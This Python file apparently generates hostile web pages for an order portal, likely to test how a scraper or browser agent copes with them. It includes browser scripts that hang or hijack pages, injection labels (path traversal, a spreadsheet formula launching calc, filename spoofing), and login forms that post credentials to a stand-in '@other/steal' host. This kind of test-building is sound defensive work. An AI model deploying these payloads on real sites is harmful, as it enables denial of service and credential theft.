"""The bodies of a hostile portal: pages whose scripts, forms, links and texts are meant to do harm."""

from __future__ import annotations

import random
from collections.abc import Callable

PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%"
END = b"\ntrailer<<>>\n%%EOF\n"


def file_of(path: str) -> bytes:
    """Return a whole PDF that holds the address it was served at."""
    return PDF + path.encode("utf-8", "backslashreplace") + END


def page(number: str, body: str = "", head: str = "") -> str:
    """Return a page that carries an order's number."""
    return (
        f"<!doctype html><html><head><meta charset=utf-8><title>Order {number}</title>{head}</head>"
        f"<body><h1>Order {number}</h1>{body}</body></html>"
    )


def link(number: str, name: str, label: str = "") -> str:
    """Return a link to an order's own file."""
    return f"<a class=attachment href='/files/{number}/{name}'>{label or name}</a>"


def button(script: str, label: str = "b.pdf") -> str:
    """Return an attachment without an address."""
    return f"<a class=attachment href='#' onclick=\"{script}; return false\">{label}</a>"


def good(number: str) -> str:
    """Return the page of an order that is as it should be: a link, or a button, which meets what others have left."""
    if number.endswith(("1", "4", "7")):
        return page(number, button(f"location.href = '/files/{number}/a.pdf'", "a.pdf"))
    return page(number, link(number, "a.pdf"))


_SCRIPTS = (
    "while (true) {}",
    "setTimeout(() => { while (true) {} }, 900)",
    "setTimeout(() => location.reload(), 0)",
    "setInterval(() => window.open('/steer'), 50)",
    "window.close()",
    "for (;;) { alert(1); confirm(2); prompt(3); print(); if (Math.random() < 0.01) break }",
    "for (let i = 0; i < 3000; i++) history.pushState({}, '', '?' + i)",
    "Object.defineProperty(Performance.prototype, 'timeOrigin', {get() { return 'abc' }})",
    "JSON = Promise = Array = null; document.querySelectorAll = () => { throw 1 }",
    "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js', {scope: '/'})",
    "location = 'javascript:document.write(1)'",
    "location = 'data:text/html,<title>Order</title>'",
    "location = 'file:///etc/passwd'",
    "location = 'ftp://127.0.0.1/x'",
    "location = 'chrome://settings'",
    "document.title = document.title.repeat(1000)",
    "document.open(); document.write('<title>other</title>'.repeat(500)); document.close()",
    "setInterval(() => document.body.append(document.createElement('a')), 10)",
    "onbeforeunload = () => 1; onunload = () => { while (Date.now() % 1000) {} }",
    "new Worker(URL.createObjectURL(new Blob(['for (;;) postMessage(1)'])))",
    "fetch('/drip'); new EventSource('/drip'); new WebSocket('ws://127.0.0.1:9/')",
    "document.documentElement.remove()",
    "Element.prototype.attachShadow = null; Node.prototype.appendChild = null",
    "let s = 'x'; for (let i = 0; i < 25; i++) s += s; document.body.append(s.slice(0, 1 << 20))",
)
"""The last words of a page."""
_LABELS = (
    "a.pdf", "../../../../etc/passwd", "=cmd|' /C calc'!A0", "\x1b[31mred.pdf", "\u202efdp.exe", "a" * 5000, "",
    "con.pdf", "results.csv", ".purser", "<!--" * 2000, "{{7*7}}", "%s%n", "a\r\nb.pdf", "\ud83d\ude00.pdf",
)  # fmt: skip
_ADDRESSES = (
    "ftp://127.0.0.1/a.pdf", "javascript:alert(1)", "data:application/pdf,x", "file:///etc/passwd", "http://[", "//",
    "http://user:secret@127.0.0.1:9/a.pdf", "@other/a.pdf", "\\\\127.0.0.1\\a.pdf", "http://127.0.0.1:9/a.pdf",
    "?" + "x" * 100_000, "blob:null/1", "mailto:a@b.c", "/files/%00/%2e%2e/%2e%2e/a.pdf", "http://0x7f.1/a.pdf",
)  # fmt: skip


def _script(number: str, chance: random.Random) -> str:
    return page(number, link(number, "a.pdf"), head=f"<script>{chance.choice(_SCRIPTS)}</script>")


def _late_script(number: str, chance: random.Random) -> str:
    return page(number, link(number, "a.pdf") + f"<script>{chance.choice(_SCRIPTS)}</script>")


def _button(number: str, chance: random.Random) -> str:
    ask = (
        f"const a = document.createElement('a'); a.href = '/slow/{number}/s.pdf'; a.download = '';"
        " document.body.append(a)"
    )
    deeds = (
        f"{ask}; a.click()", f"{ask}; a.click(); a.click(); a.click()", "window.open('/steer')", "while (true) {}",
        "document.body.remove()", f"for (let i = 0; i < 9; i++) {{ {ask}; a.click() }}",
        "location.href = 'javascript:1'", f"location.href = '/orders/{number}'", "window.close()",
    )  # fmt: skip
    return page(number, button(chance.choice(deeds)))


def _labels(number: str, chance: random.Random) -> str:
    shown = "".join(link(number, f"{place}.pdf", chance.choice(_LABELS)) for place in range(chance.randint(1, 12)))
    return page(number, shown)


def _addresses(number: str, chance: random.Random) -> str:
    shown = "".join(f"<a class=attachment href='{chance.choice(_ADDRESSES)}'>a.pdf</a>" for _ in range(4))
    base = chance.choice(["", "<base href='@other/'>", "<base href='ftp://127.0.0.1/'>", "<base target=_blank>"])
    return page(number, shown, head=base)


def _login(number: str, chance: random.Random) -> str:
    action = chance.choice(["@other/steal", "javascript:fetch('@other/steal')", "http://127.0.0.1:9/", "", "/login"])
    method = chance.choice(["post", "get", "dialog"])
    swap = "<script>setTimeout(() => { document.forms[0].action = '@other/steal' }, 20)</script>"
    form = (
        f'<form method={method} action="{action}"><input name=username><input type=password name=password>'
        f"<button formaction='{chance.choice(['', '@other/steal'])}'>go</button></form>"
    )
    title = chance.choice(["Log in", f"Order {number}"])
    return f"<title>{title}</title><h1>{title}</h1>{form}{chance.choice(['', swap])}"


def _refresh(number: str, chance: random.Random) -> str:
    where = chance.choice([f"/orders/{number}", "@other/", "javascript:1", "data:text/html,x", "/login", "file:///"])
    return page(number, head=f"<meta http-equiv=refresh content='{chance.choice([0, 1])};url={where}'>")


def _nested(number: str, chance: random.Random) -> str:
    tag = chance.choice(["div", "table><tr><td", "b", "ul><li", "iframe srcdoc=x", "select><option", "svg><g"])
    return page(number, f"<{tag}>" * chance.choice([100, 3000, 30_000]) + link(number, "a.pdf"))


def _many(number: str, chance: random.Random) -> str:
    return page(number, "".join(link(number, f"{place}.pdf") for place in range(chance.choice([60, 2000]))))


def _noise(number: str, chance: random.Random) -> str:
    symbols = "<>/='\"& \n\t-!?;abcdefhilnoprstux\0\x1b\u202e\ufeff"
    noise = "".join(chance.choice(symbols) for _ in range(chance.choice([10, 3000])))
    return chance.choice([page(number, noise), noise, page(number, link(number, "a.pdf") + f"<!--{noise}")])


def _other(_number: str, chance: random.Random) -> str:
    return good(f"GOOD-{chance.randint(0, 9)}")


_MAKERS: tuple[Callable[[str, random.Random], str], ...] = (
    _script, _late_script, _button, _labels, _addresses, _login, _refresh, _nested, _many, _noise, _other,
)  # fmt: skip


def hostile(number: str, chance: random.Random, other: str) -> bytes:
    """Return a page for an order, as chance has it.

    Args:
        number: The order.
        chance: Decides.
        other: Base address of the host that is not the portal.
    """
    made = chance.choice(_MAKERS)(number, chance)
    return made.replace("@other", other).encode("utf-8", "surrogatepass")
